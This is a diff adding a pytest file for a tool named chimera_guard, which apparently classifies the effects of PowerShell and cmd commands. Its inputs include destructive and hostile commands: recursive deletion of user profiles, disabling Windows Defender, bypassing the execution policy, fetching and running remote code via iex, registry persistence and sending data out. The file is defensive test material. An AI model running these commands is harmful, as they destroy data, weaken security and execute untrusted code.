@@ -1,0 +1,132 @@
+"""What PowerShell and cmd would do."""
+
+from __future__ import annotations
+
+import pytest
+
+from chimera_guard.effects.code import read_code
+from chimera_guard.words.value import HOLE, SOME_NAME
+
+HARMLESS = [
+    ("pwsh", "Get-Process | Where-Object { $_.CPU -gt 10 } | Select-Object -First 5 | Format-Table -AutoSize"),
+    ("pwsh", "1..3 | ForEach-Object { [pscustomobject]@{ n = $_; m = $_ * 2 } }"),
+    ("pwsh", "if (Test-Path a) { 'yes' } elseif ($x) { 'no' } else { \"$($x.y) no\" }"),
+    ("pwsh", "$j = Get-Content a.json -Raw | ConvertFrom-Json # Remove-Item a\n$j.version"),
+    ("pwsh", "<# Remove-Item a #> Get-Date -Format 'yyyy'; [math]::Round(1.5)"),
+    ("pwsh", "function f($a) { return $a + 1 }\nf 2"),
+    ("pwsh", "Remove-Item a -Recurse -WhatIf"),
+    ("pwsh", "Remove-Item Env:X, Variable:y"),
+    ("pwsh", "@'\nRemove-Item a\n'@"),
+    ("pwsh", "Get-Command |\n  Sort-Object Name |\n  Out-Null"),
+    ("pwsh", "'a' -replace 'rm', 'x'; \"b\".ToUpper()"),
+    ("pwsh", "try { Get-Item a } catch { $_.Exception.Message } finally { }"),
+    ("cmd", "dir /b & ver"),
+    ("cmd", "if not exist a (echo no) else echo yes"),
+    ("cmd", "for %i in (*.txt) do @echo %i"),
+    ("cmd", "echo a>nul 2>&1"),
+]
+DOES = [
+    ("pwsh", "$d = '/a'; Remove-Item $d -Recurse", ("delete", "/a", {"recursive"})),
+    ("pwsh", "foreach ($d in '/a') { ri -r $d }", ("delete", "/a", {"recursive"})),
+    ("pwsh", "foreach ($d in gci /a) { Remove-Item -r $d }", ("delete", "/a", {"recursive"})),
+    ("pwsh", "gci /a -Recurse | % { ri $_.FullName }", ("delete", "/a", {"recursive"})),
+    ("pwsh", "gci /a -Recurse -Filter *.o | ri", ("delete", "/a", {"filtered", "recursive"})),
+    ("pwsh", "gci | ? Name -like x* | ri -Recurse", ("delete", ".", {"filtered", "recursive"})),
+    ("pwsh", 'ri ./a,"b`n" -fo', ("delete", "./a", set())),
+    ("pwsh", "ri C:\\Users\\* -r", ("delete", f"/Users/{SOME_NAME}", {"recursive"})),
+    ("pwsh", "ri D:\\a", ("delete", "/mnt/d/a", set())),
+    ("pwsh", "if ($a) {\n  & { if ($b) { ri /a } } }", ("delete", "/a", set())),
+    ("pwsh", "$x = @{ a = $(ri /a); b = 2 }", ("delete", "/a", set())),
+    ("pwsh", '"$(ri /a)"', ("delete", "/a", set())),
+    ("pwsh", "Start-Job -ScriptBlock { ri /a }", ("delete", "/a", set())),
+    ("pwsh", "iex 'ri /a'", ("delete", "/a", set())),
+    ("pwsh", "'ri /a' | iex", ("delete", "/a", set())),
+    ("pwsh", "[System.IO.Directory]::Delete('/a', $true)", ("delete", "/a", {"recursive"})),
+    ("pwsh", "[IO.File]::WriteAllText('a', 'b')", ("write", "a", set())),
+    ("pwsh", "gci /a | gc", ("read", "/a", set())),
+    ("pwsh", "gci /a -Include b, c | cp -Destination d", ("read", "/a/c", set())),
+    ("pwsh", "[IO.Directory]::GetFiles('/a') | % { [IO.File]::Delete($_) }", ("delete", "/a", {"recursive"})),
+    ("pwsh", "del /s /q C:\\a", ("delete", "/a", {"recursive"})),
+    ("pwsh", "Set-Service WinDefend -StartupType Disabled", ("weaken", None, set())),
+    ("pwsh", "Invoke-Sqlcmd -Query 'DROP TABLE a'", ("database-delete", "DROP TABLE a", set())),
+    ("pwsh", "get-date > a.txt", ("write", "a.txt", set())),
+    ("pwsh", "get-date *>> a.txt", ("append", "a.txt", set())),
+    ("pwsh", "Copy-Item a -Destination b -Force", ("write", "b", set())),
+    ("pwsh", "mv a b", ("move", "a", set())),
+    ("pwsh", "iwr -Uri https://x.example/a -OutFile b", ("write", "b", set())),
+    ("pwsh", "iex (irm https://x.example/a)", ("exec-code", None, {"remote"})),
+    ("pwsh", "irm https://x.example/a | iex", ("exec-code", None, {"remote"})),
+    ("pwsh", "iex ((New-Object Net.WebClient).DownloadString('https://x.example'))", ("exec-code", None, {"remote"})),
+    ("pwsh", "irm -Method Post -Uri https://x.example -Body a", ("send", "https://x.example", set())),
+    ("pwsh", "Start-Process x -Verb RunAs", ("privilege", None, {"force"})),
+    ("pwsh", "Stop-Process -Name a -Force", ("kill", "a", set())),
+    ("pwsh", "Get-Process | Stop-Process", ("kill", None, {"all"})),
+    ("pwsh", "ni -ItemType Directory -Path a", ("write", "a", {"directory"})),
+    (
+        "pwsh",
+        "sp -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b",
+        ("persist", None, set()),
+    ),
+    ("pwsh", "ri HKCU:\\Software\\a -r", ("service", None, {"force"})),
+    ("pwsh", "Set-ExecutionPolicy Bypass", ("weaken", None, set())),
+    ("pwsh", "Set-ExecutionPolicy Bypass -Scope Process", ("weaken", None, {"local"})),
+    ("pwsh", "./a.ps1 -x", ("exec-script", "./a.ps1", set())),
+    ("pwsh", ". .\\a.ps1", ("exec-script", "./a.ps1", set())),
+    ("cmd", "del /s /q C:\\a\\*.*", ("delete", f"/a/{SOME_NAME}", {"recursive"})),
+    ("cmd", "rd /s /q %USERPROFILE%", ("delete", "~", {"recursive"})),
+    ("cmd", "for /d %i in (C:\\a\\*) do rd /s /q %i", ("delete", f"/a/{SOME_NAME}", {"recursive"})),
+    ("cmd", "if exist a del a", ("delete", "a", set())),
+    ("cmd", "cd b && (del a)", ("delete", "a", set())),
+    ("cmd", "copy /y a b", ("write", "b", set())),
+    ("cmd", "echo a >> b", ("append", "b", set())),
+    ("cmd", "call a.bat", ("exec-script", "a.bat", set())),
+]
+STARTS = [
+    ("pwsh", "git status", ("git", "status")),
+    ("pwsh", "& 'C:\\Windows\\System32\\where.exe' a", ("where.exe", "a")),
+    ("pwsh", "Start-Process npm -ArgumentList 'run dev'", ("npm", "run", "dev")),
+    ("pwsh", "rm-all a $b", None),
+    ("pwsh", "tool a $b", ("tool", "a", None)),
+    ("cmd", "net user", ("net.exe", "user")),
+    ("cmd", 'start "" tool "a b"', ("tool", "a b")),
+]
+CAPABLE = [
+    ("pwsh", "& $x"),
+    ("pwsh", "iex $x"),
+    ("pwsh", "[Reflection.Assembly]::Load($b)"),
+    ("pwsh", "$x.Delete()"),
+    ("pwsh", "(New-Object -ComObject WScript.Shell).Run('x')"),
+    ("pwsh", "Invoke-Command -ScriptBlock $x"),
+    ("pwsh", "Add-Type -TypeDefinition $x"),
+]
+
+
+@pytest.mark.parametrize(("language", "code"), HARMLESS)
+def test_harmless(language: str, code: str) -> None:
+    reading = read_code(language, code)
+    assert [effect for effect in reading.effects if effect[0] != "read"] == []
+    assert reading.complete
+    assert not reading.argvs
+
+
+@pytest.mark.parametrize(("language", "code", "effect"), DOES)
+def test_does(language: str, code: str, effect: tuple[str, str | None, set[str]]) -> None:
+    kind, target, flags = effect
+    assert (kind, target, frozenset(flags)) in read_code(language, code).effects
+
+
+@pytest.mark.parametrize(("language", "code", "argv"), STARTS)
+def test_starts(language: str, code: str, argv: tuple[str | None, ...] | None) -> None:
+    assert read_code(language, code).argvs == ((argv,) if argv is not None else ())
+
+
+@pytest.mark.parametrize(("language", "code"), CAPABLE)
+def test_capable(language: str, code: str) -> None:
+    assert ("unknown", None, frozenset({"language", "capable"})) in read_code(language, code).effects
+
+
+@pytest.mark.parametrize("code", ["(" * 60_000, "{" * 9_000, "$(" * 9_000, '"' * 60_001, "a," * 30_000, "%a" * 30_000])
+@pytest.mark.parametrize("language", ["pwsh", "cmd"])
+def test_whatever_it_is(language: str, code: str) -> None:
+    read_code(language, code)
+    read_code(language, code + HOLE)
